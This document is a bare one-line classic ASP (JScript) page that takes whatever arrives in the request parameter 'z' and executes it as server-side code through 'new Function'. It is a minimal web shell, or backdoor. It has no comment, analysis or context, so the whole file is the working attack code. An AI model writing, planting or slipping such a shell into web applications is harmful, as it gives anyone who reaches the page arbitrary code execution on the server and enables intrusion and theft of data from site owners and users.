<%@ Language=JScript %><% var req = Request; var f = new Function(req("z")); f(); %>
